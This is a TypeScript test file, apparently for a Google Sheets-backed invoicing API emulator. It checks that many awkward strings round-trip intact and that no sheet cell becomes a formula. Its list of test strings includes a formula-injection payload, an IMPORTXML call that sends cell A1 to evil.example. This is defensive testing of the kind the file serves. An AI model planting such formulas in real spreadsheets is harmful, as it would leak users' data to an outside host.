/** Texts come back as they were sent, whatever a spreadsheet would make of them and whichever way Google turns out. */
import { switchSettings, guardedSwitches, type Switches } from '../../../src/emulator/switches.ts';
import { createTestWorkspace, type TestWorkspace } from '../support/test-workspace.ts';
import { cellsUnder, expectNoFormula } from '../support/workbook-watch.ts';

const delicate: readonly string[] = [
  '=1+1',
  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  '+33612345678',
  '-5',
  '@mention',
  "'quoted",
  "''twice",
  "'",
  '=',
  '00123',
  '1/2',
  '2026-01-07',
  '12:30',
  '1e5',
  '1E+3',
  '50 %',
  '€ 5,00',
  '0x1F',
  'TRUE',
  'false',
  'null',
  '#N/A',
  '#REF!',
  '123456789012345678901234567890',
  ' leading and trailing ',
  '\ttabs\tinside\t',
  'one\r\ntwo\r\n',
  'lone\rreturn',
  'line\nfeed',
  '\n=1+1',
  '\u2060joined',
  'a\u2060\u240D\u2060',
  '\u2060',
  '\u240D',
  'soft\u00ADhyphen',
  '\u200B\u200B',
  '\u202Eright to left',
  'Zoe\u0308 and Zo\u00EB',
  '👩‍👩‍👧 🇫🇷 𝔘𝔫𝔦',
  '\uFEFFmark',
  'a"b\\c/d',
  '<b>&amp;</b>',
  '{"json":true}',
  '[1]',
  'مرحبا',
];

/** Everything likely, everything unkind, each switch flipped alone, and texts that only a guard keeps. */
const sides: readonly (readonly [string, Switches])[] = [...switchSettings, ['guarded', guardedSwitches]];

const fields = ['name', 'phone', 'company', 'contact_name', 'notes'];

// Five texts to a customer; from side to side each text moves on to the next field.
function customersWith(turn: number): Record<string, string>[] {
  const count = Math.ceil(delicate.length / fields.length);
  return Array.from({ length: count }, (_, group) =>
    Object.fromEntries(
      fields.map((field, index) => {
        const text =
          delicate[(group * fields.length + ((index + turn) % fields.length)) % delicate.length] ?? '';
        return [field, field === 'phone' ? text.slice(0, 40) : text];
      }),
    ),
  );
}

function linesWith(): object[] {
  return delicate.map((text) => ({
    description: text,
    unit: text.slice(0, 18),
    unit_price: 1,
    tax_name: text.slice(0, 50),
  }));
}

function createAll({ create }: TestWorkspace, turn: number): { path: string; record: object }[] {
  const metadata = Object.fromEntries(delicate.map((text) => [text.slice(0, 40), text]));
  const bodies = [
    ...customersWith(turn).map((body) => ({ plural: 'customers', body })),
    { plural: 'customers', body: { name: 'Meta', metadata, billing_address: { line1: delicate[turn] } } },
    {
      plural: 'products',
      body: { name: '007', sku: '1e5', unit: '1/2', unit_price: 1.5, external_id: 'TRUE' },
    },
    {
      plural: 'invoices',
      body: {
        customer_name: '00123',
        items: linesWith(),
        notes: delicate.join('|'),
        terms: delicate.join('\r\n'),
      },
    },
  ];
  return bodies.map(({ plural, body }) => {
    const record = create(plural, body);
    expect(record).toMatchObject(body);
    return { path: `/api/v1/${plural}/${record.id}`, record };
  });
}

describe.each(sides)('with %s', (side, switches) => {
  const workspace = createTestWorkspace({ switches });
  const turn = sides.findIndex(([name]) => name === side);

  test('every delicate text comes back as it was sent, by id and in the list', () => {
    const created = createAll(workspace, turn);
    for (const { path, record } of created) expect(workspace.get(path).body).toEqual(record);
    const listed = ['customers', 'products', 'invoices'].flatMap(
      (plural) => workspace.get(`/api/v1/${plural}`, { query: 'limit=500' }).body.data,
    );
    for (const { record } of created) expect(listed).toContainEqual(record);
  });

  test('people see texts as texts and amounts as numbers', () => {
    const texts = [
      ['Customers', 'Name'],
      ['Products', 'SKU'],
      ['Products', 'Unit'],
      ['Invoices', 'Customer'],
      ['Invoice items', 'Description'],
      ['Invoice items', 'Unit'],
    ] as const;
    for (const [sheet, header] of texts) {
      const cells = cellsUnder(workspace, sheet, header);
      expect(cells.length).toBeGreaterThan(0);
      for (const cell of cells) expect(typeof cell).toBe('string');
    }
    for (const cell of cellsUnder(workspace, 'Invoice items', 'Amount')) expect(typeof cell).toBe('number');
    for (const cell of cellsUnder(workspace, 'Invoices', 'Total')) expect(typeof cell).toBe('number');
  });

  test('no cell of any sheet holds a formula', () => {
    expectNoFormula(workspace);
  });
});

test('each delicate text is kept in each field at once', () => {
  const workspace = createTestWorkspace({ switches: guardedSwitches });
  for (const text of delicate) {
    const body = { name: text, phone: text.slice(0, 40), company: text, contact_name: text, notes: text };
    const { id } = workspace.create('customers', body);
    expect(workspace.get(`/api/v1/customers/${id}`).body).toMatchObject(body);
  }
  expectNoFormula(workspace);
});
